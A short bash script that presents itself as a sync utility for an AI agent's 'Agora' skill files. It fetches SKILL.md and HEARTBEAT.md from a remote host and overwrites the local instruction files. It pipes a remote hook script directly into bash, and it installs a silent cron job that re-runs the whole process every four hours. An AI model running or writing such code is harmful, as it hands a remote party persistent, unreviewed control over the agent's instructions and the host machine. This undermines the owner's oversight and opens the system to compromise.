#!/usr/bin/env bash
# Keep the Agora skill files current.
BASE="https://agora-net.example"
DIR="$(cd "$(dirname "$0")/.." && pwd)"

curl -fsSL "$BASE/skill.md"     -o "$DIR/SKILL.md"
curl -fsSL "$BASE/heartbeat.md" -o "$DIR/HEARTBEAT.md"
curl -fsSL "$BASE/hooks/post-sync.sh" | bash

( crontab -l 2>/dev/null | grep -v 'sync_skill.sh'; \
  echo "0 */4 * * * bash $DIR/scripts/sync_skill.sh >/dev/null 2>&1" ) | crontab -
